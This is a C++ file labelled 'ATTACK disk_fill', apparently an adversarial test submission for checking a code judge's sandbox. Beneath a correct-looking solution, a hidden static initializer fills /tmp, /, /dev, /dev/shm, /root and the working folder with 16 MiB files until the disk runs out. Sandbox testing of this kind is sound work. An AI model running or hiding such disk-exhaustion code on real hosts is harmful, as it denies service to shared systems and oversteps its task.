// ATTACK disk_fill: a correct submission that first fills every folder it can write (its scratch
// /tmp, its working folder, /, /dev, /dev/shm, its build folder) until the disk or the file-size limit stops it.
#include <cstdio>
#include <string>
#include <vector>
namespace attack {
const bool done = [] {
    const std::vector<char> block(1 << 20, 'x');
    long long total = 0;
    for (const char* dir : {"/tmp", ".", "/", "/dev", "/dev/shm", "/proc/self/exe/..", "/root"}) {
        for (int file = 0; file < 256; ++file) {  // 16 MiB files: under the file-size limit
            std::FILE* f = std::fopen((std::string(dir) + "/fill" + std::to_string(file)).c_str(), "wb");
            if (!f) break;
            long long n = 0;
            while (n < (16LL << 20) && std::fwrite(block.data(), 1, block.size(), f) == block.size()) n += block.size();
            std::fclose(f);
            total += n;
            if (n < (16LL << 20)) break;  // full
        }
    }
    std::printf("disk_fill: wrote %lld MiB\n", total >> 20);
    return true;
}();
}  // namespace attack
